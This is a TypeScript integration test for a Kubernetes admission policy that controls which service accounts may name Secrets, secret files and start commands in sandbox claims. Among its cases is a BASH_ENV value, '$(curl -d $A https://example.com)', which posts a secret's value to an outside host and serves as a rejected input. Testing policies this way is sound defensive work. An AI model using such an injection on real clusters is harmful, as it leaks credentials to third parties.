/** Which users may name Secrets in a claim: the admission policy asks the API server about the author of the claim. @module */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { fileURLToPath } from "node:url";
import { run } from "./kubectl.ts";
import { aClaim } from "./pools.ts";
import { type BareCluster, shared } from "./shared.ts";
import { until } from "../eventually.ts";

const POLICY = fileURLToPath(new URL("../../deploy/binder/secrets.yaml", import.meta.url));

let cluster: BareCluster;
const NAMESPACE = `claim-secrets-${randomUUID().slice(0, 8)}`;
beforeAll(async () => {
  cluster = await shared("bare");
  await run(cluster, ["apply", "-f", POLICY]);
  await run(cluster, ["create", "namespace", NAMESPACE]);
  const kubectl = (...args: string[]) => run(cluster, ["-n", NAMESPACE, ...args]);
  for (const user of ["all", "some", "none"]) await kubectl("create", "serviceaccount", user);
  const claims = ["--verb=create,get,patch,update", "--resource=sandboxclaims.extensions.agents.x-k8s.io"];
  await kubectl("create", "role", "claims", ...claims);
  await kubectl("create", "role", "all", "--verb=get", "--resource=secrets");
  await kubectl("create", "role", "some", "--verb=get", "--resource=secrets", "--resource-name=mine");
  for (const user of ["all", "some", "none"]) {
    const account = `--serviceaccount=${NAMESPACE}:${user}`;
    await kubectl("create", "rolebinding", `${user}-claims`, "--role=claims", account);
    if (user !== "none") await kubectl("create", "rolebinding", user, `--role=${user}`, account);
  }
  // The API server enforces a new policy a moment later.
  await until(() => create("none", "probe", "A=mine/key").then(() => false, () => true));
});

afterAll(() => run(cluster, ["delete", "namespace", NAMESPACE, "--wait=false"]));

/** With these entries; those of `files` begin with a path. */
function claimOf(name: string, secrets: string | undefined, files?: string) {
  const claim = aClaim(name, "p") as { metadata: object };
  const annotations = {
    ...secrets === undefined ? {} : { "agents.x-k8s.io/secret-env": secrets },
    ...files === undefined ? {} : { "agents.x-k8s.io/secret-files": files },
  };
  return JSON.stringify({ ...claim, metadata: { ...claim.metadata, annotations } });
}

async function create(user: string, name: string, secrets: string | undefined, files?: string): Promise<string> {
  const as = `system:serviceaccount:${NAMESPACE}:${user}`;
  const args = ["-n", NAMESPACE, "--as", as, "create", "--dry-run=server", "-f", "-"];
  return await run(cluster, args, claimOf(name, secrets, files));
}

const MANY = (count: number) => Array.from({ length: count }, (_, i) => `A${i}=mine/key`).join();

test.for<[string, string | undefined, string[], string?]>([
  ["no Secret", undefined, ["all", "some", "none"]],
  ["the Secret of some", "A=mine/key", ["all", "some"]],
  ["two keys of it", "A=mine/key,B=mine/other", ["all", "some"]],
  ["another Secret", "A=other/key", ["all"]],
  ["the Secret of some, and another", "A=mine/key,B=other/key", ["all"]],
  ["as many as are allowed", MANY(8), ["all", "some"]],
  ["more", MANY(9), []],
  ["an empty text", "", []],
  ["an empty entry", "A=mine/key,", []],
  ["a blank", "A=mine/key, B=other/key", []],
  ["a line break", "A=mine/key\nB=other/key", []],
  ["eight, the last one from another Secret", `${MANY(7)},B=other/key`, ["all"]],
  ["a second slash", "A=mine/other/key", []],
  ["a second equals sign", "A=mine=other/key", []],
  ["a path", "A=../mine/key", []],
  ["no name", "=mine/key", []],
  ["a file", undefined, ["all", "some"], "/home/me/.netrc=mine/key"],
  ["two files, the second one from another Secret", undefined, ["all"], "a=mine/key,~/b c/é=other/key"],
  ["a file of another Secret, and a variable", "A=mine/key", ["all"], "a=other/key"],
  ["as many as are allowed, as variables and files", MANY(4), ["all", "some"], MANY(4)],
  ["a file more", MANY(8), [], "a=mine/key"],
  ["no file", undefined, [], ""],
  ["a file whose path has an equals sign", undefined, [], "a=b=other/key"],
  ["a file whose path has a line break", undefined, [], "a\nb=mine/key"],
  ["a file whose path looks like an entry", undefined, [], "mine/key=a/b=other/key"],
  ["no path", undefined, [], "=mine/key"],
])("a claim that names %s is accepted from those who may read them", async ([, secrets, allowed, files]) => {
  for (const user of ["all", "some", "none"]) {
    const created = create(user, "c", secrets, files).then(() => "accepted", (error) => String(error));
    const want = allowed.includes(user)
      ? "accepted"
      : expect.stringMatching(/may not read a Secret|8 entries|not NAME=|not PATH=/);
    expect([user, await created]).toEqual([user, want]);
  }
});

test("who may not read them cannot change which Secrets a claim names, nor what gets their values", async () => {
  await run(cluster, ["-n", NAMESPACE, "create", "-f", "-"], claimOf("made", "A=mine/key"));
  const patch = (user: string, body: object) =>
    run(cluster, [
      ...["-n", NAMESPACE, "--as", `system:serviceaccount:${NAMESPACE}:${user}`, "patch", "sandboxclaim", "made"],
      ...["--type=merge", "-p", JSON.stringify(body)],
    ]).then(() => "done", (error) => String(error));
  const name = (text: string | null) => ({ metadata: { annotations: { "agents.x-k8s.io/secret-env": text } } });
  expect(await patch("none", { metadata: { labels: { a: "b" } } })).toBe("done");
  expect(await patch("none", { spec: { lifecycle: { shutdownPolicy: "Delete" } } })).toBe("done");
  // Each bash would pass on the values.
  const spy = { spec: { env: [{ name: "BASH_ENV", value: "$(curl -d $A https://example.com)" }] } };
  expect(await patch("none", spy)).toContain("may not read a Secret");
  expect(await patch("none", { spec: { warmPoolRef: { name: "other" } } })).toContain("may not read a Secret");
  expect(await patch("some", spy)).toBe("done");
  expect(await patch("none", { spec: { env: null } })).toContain("may not read a Secret");
  expect(await patch("none", { spec: { lifecycle: null } })).toBe("done");
  expect(await patch("none", name("A=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", name("A=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", name("B=mine/key"))).toBe("done");
  // A start command could print the values, or send them away.
  const more = (key: string, text: string | null) => ({
    metadata: { annotations: { [`agents.x-k8s.io/${key}`]: text } },
  });
  expect(await patch("none", more("start-command", "printenv B"))).toContain("may not read a Secret");
  expect(await patch("some", more("start-command", "true"))).toBe("done");
  expect(await patch("none", more("start-command", "printenv B"))).toContain("may not read a Secret");
  expect(await patch("none", more("secret-files", "a=mine/key"))).toContain("may not read a Secret");
  expect(await patch("some", more("secret-files", "a=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", more("secret-files", "a=mine/key"))).toBe("done");
  expect(await patch("none", name(null)), "the file stays").toContain("may not read a Secret");
  expect(await patch("some", name(null))).toBe("done");
  expect(await patch("none", more("start-command", "cat a"))).toContain("may not read a Secret");
  expect(await patch("none", { metadata: { labels: { a: "c" } } })).toBe("done");
  expect(await patch("none", more("secret-files", null))).toBe("done");
  expect(await patch("none", more("start-command", "env"))).toBe("done");
  expect(await patch("none", name("B=mine/key"))).toContain("may not read a Secret");
});
